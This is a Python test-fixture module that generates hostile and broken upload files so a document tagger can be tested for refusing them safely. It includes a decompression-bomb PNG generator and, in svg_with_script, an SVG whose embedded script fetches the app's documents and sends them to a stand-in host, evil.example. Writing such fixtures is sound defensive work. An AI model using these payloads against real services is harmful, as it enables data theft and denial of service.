"""Hostile and broken files a tagger must refuse without crashing.

Each is small on disk: the pixel flood declares 12000×12000 pixels in a
~150 KB PNG (144 MB once decoded), the 500-page PDF is blank pages.
"""

from __future__ import annotations

import io
import random
import struct
import zlib

import pypdfium2 as pdfium
from PIL import Image, ImageDraw


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)


def pixel_flood_png(side: int = 12000) -> bytes:
    """A valid grayscale PNG of side×side white pixels, compressed to almost nothing."""
    packer = zlib.compressobj(9)
    row = b"\x00" + b"\xff" * side
    data = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _sample_jpeg() -> bytes:
    image = Image.new("RGB", (1200, 800), "white")
    draw = ImageDraw.Draw(image)
    for line in range(20):
        draw.text((40, 30 + line * 36), "TITRE DE SEJOUR  Date d'expiration 12/03/2029 " * 2, fill="black")
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=90)
    return buffer.getvalue()


def truncated_jpeg() -> bytes:
    """A real JPEG cut off after 60 % of its bytes."""
    data = _sample_jpeg()
    return data[: len(data) * 6 // 10]


def corrupt_pdf() -> bytes:
    """A PDF header followed by noise."""
    noise = random.Random(7).randbytes(4000)
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R" + noise


def encrypted_pdf() -> bytes:
    """A PDF that opens only with a user password."""
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.text(20, 20, "Bulletin de paie - confidential")
    pdf.set_encryption(owner_password="owner-secret", user_password="user-secret")
    return bytes(pdf.output())


def many_pages_pdf(pages: int = 500) -> bytes:
    """A valid PDF of `pages` blank A4 pages."""
    document = pdfium.PdfDocument.new()
    for _ in range(pages):
        document.new_page(595, 842).close()
    buffer = io.BytesIO()
    document.save(buffer)
    document.close()
    return buffer.getvalue()


def svg_with_script() -> bytes:
    return (b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">'
            b'<script>fetch("/api/v1/documents").then(r=>r.text()).then(t=>fetch("//evil.example/?"+t))</script>'
            b'<text x="10" y="50">TITRE DE SEJOUR</text></svg>')


def files() -> dict[str, tuple[bytes, str]]:
    """Every hostile sample: name -> (bytes, declared MIME type)."""
    png = io.BytesIO()
    Image.new("RGB", (50, 50), "white").save(png, "PNG")
    return {
        "hostile-pixel-flood.png": (pixel_flood_png(), "image/png"),
        "hostile-truncated.jpg": (truncated_jpeg(), "image/jpeg"),
        "hostile-corrupt.pdf": (corrupt_pdf(), "application/pdf"),
        "hostile-encrypted.pdf": (encrypted_pdf(), "application/pdf"),
        "hostile-500-pages.pdf": (many_pages_pdf(), "application/pdf"),
        "hostile-zero-byte.jpg": (b"", "image/jpeg"),
        "hostile-script.svg": (svg_with_script(), "image/svg+xml"),
        "hostile-png-declared-jpeg.jpg": (png.getvalue(), "image/jpeg"),
    }
